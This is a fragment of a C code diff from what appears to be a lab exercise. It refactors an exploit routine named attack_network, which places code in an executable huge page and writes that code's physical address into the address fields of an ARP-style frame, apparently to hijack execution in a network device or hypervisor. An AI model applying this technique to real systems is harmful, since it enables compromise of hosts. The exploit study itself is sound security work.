@@ -20,10 +20,8 @@
 #include <sys/socket.h>
 #include <unistd.h>
 
+#include "../task8.h"
 #include "guest_program.h"
-
-#define LARGE_PAGE 0x200000ul
-#define ENTRY 0x40u /* radius.h: CODE_ENTRY */
 
 enum { PATIENCE = 5000 /* milliseconds */, FRAME = 1024, CODE_MOST = 0x10000 };
 enum { HARDWARE_BYTES = 18, PROTOCOL_BYTES = 19, OPERATION = 20, SENDER = 22 };
@@ -98,7 +96,7 @@ static uint8_t *large_page(void)
 
     (void)!write(count, "1", 1);
     (void)close(count);
-    page = mmap(NULL, LARGE_PAGE, PROT_READ | PROT_WRITE | PROT_EXEC,
+    page = mmap(NULL, CODE_ALIGNMENT, PROT_READ | PROT_WRITE | PROT_EXEC,
                 MAP_PRIVATE | MAP_ANONYMOUS | MAP_HUGETLB | MAP_POPULATE, -1, 0);
     return page == MAP_FAILED ? NULL : page;
 }
@@ -142,7 +140,7 @@ void attack_network(void)
     int line = open_card();
 
     if (page != NULL && place_code(page) != 0 && physical(page) != 0) {
-        uint64_t entry = physical(page) + ENTRY;
+        uint64_t entry = physical(page) + CODE_ENTRY;
 
         fill_question(frame, HARDWARE, PROTOCOL);
         for (unsigned i = 0; i < HARDWARE + PROTOCOL; i += sizeof(entry)) {
